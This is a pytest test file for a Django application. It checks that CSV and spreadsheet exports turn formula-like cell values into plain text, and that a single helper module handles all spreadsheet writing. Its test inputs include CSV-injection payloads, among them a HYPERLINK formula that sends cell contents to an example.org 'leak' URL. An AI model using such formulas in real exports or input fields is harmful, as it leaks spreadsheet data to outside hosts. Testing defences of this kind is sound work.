"""Exports never hand a spreadsheet a formula, and every export goes through one helper."""

import ast
import csv
import io
from pathlib import Path

import pytest
from django.urls import reverse

from lk3_flow.spreadsheets import FORMULA_STARTS, safe_cell

ROOT = Path(__file__).resolve().parent.parent
PROJECT_PACKAGES = ["audit", "bench", "flows", "letters", "lk3_flow", "permissions"]
HELPER = ROOT / "lk3_flow" / "spreadsheets.py"
SPREADSHEET_LIBRARIES = {"openpyxl", "xlsxwriter", "xlwt", "pyexcel", "pandas", "tablib"}
SPREADSHEET_TYPES = ("text/csv", "spreadsheetml", "ms-excel", "tab-separated-values")


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_formula_like_text_becomes_plain_text(start):
    typed = f'{start}HYPERLINK("http://example.org/?leak="&A1;"klik")'
    assert safe_cell(typed) == f"'{typed}"


def test_other_values_are_left_as_they_are():
    assert safe_cell("Siti Aminah") == "Siti Aminah"
    assert safe_cell("Catatan: =1+1") == "Catatan: =1+1"
    assert safe_cell(-5) == -5 and safe_cell(2.5) == 2.5
    assert safe_cell(None) == ""
    assert safe_cell(True) == "True"


@pytest.mark.django_db
def test_typed_formulas_reach_the_auditors_csv_as_text(client, office):
    comment = '=HYPERLINK("http://example.org/"&A1,"klik")'
    office.head.first_name = "+Euis"  # the administrator types staff names
    office.head.save()
    case = office.assess(office.assign(office.register()))
    office.review_assessment(case, approved=False, comment=comment)
    client.force_login(office.auditor)
    response = client.get(reverse("audit:timeline_csv", args=[case.pk]))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert f"'{comment}" in cells
    assert "'+Euis" in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


def _spreadsheet_writes(path: Path) -> list[str]:
    """What in the module writes CSV or spreadsheets by itself."""
    found = []
    for node in ast.walk(ast.parse(path.read_text(), str(path))):
        if isinstance(node, ast.Import | ast.ImportFrom):
            names = [alias.name for alias in node.names]
            module = node.module if isinstance(node, ast.ImportFrom) else None
            for name in [module, *names] if module else names:
                if name and name.split(".")[0] in SPREADSHEET_LIBRARIES:
                    found.append(f"imports {name}")
            if module == "csv" and {"writer", "DictWriter"} & set(names):
                found.append("imports a CSV writer")
        elif (
            isinstance(node, ast.Attribute)
            and node.attr in ("writer", "DictWriter")
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
        ):
            found.append(f"csv.{node.attr}")
        elif (
            isinstance(node, ast.Constant)
            and isinstance(node.value, str)
            and any(kind in node.value for kind in SPREADSHEET_TYPES)
        ):
            found.append(f"content type {node.value!r}")
    return found


def test_only_the_helper_writes_spreadsheets():
    modules = [
        path
        for package in PROJECT_PACKAGES
        for path in (ROOT / package).rglob("*.py")
        if path != HELPER
    ]
    assert modules
    found = {str(path.relative_to(ROOT)): _spreadsheet_writes(path) for path in modules}
    offenders = {module: writes for module, writes in found.items() if writes}
    assert offenders == {}
    assert _spreadsheet_writes(HELPER), "the guard must recognise the helper's own writer"
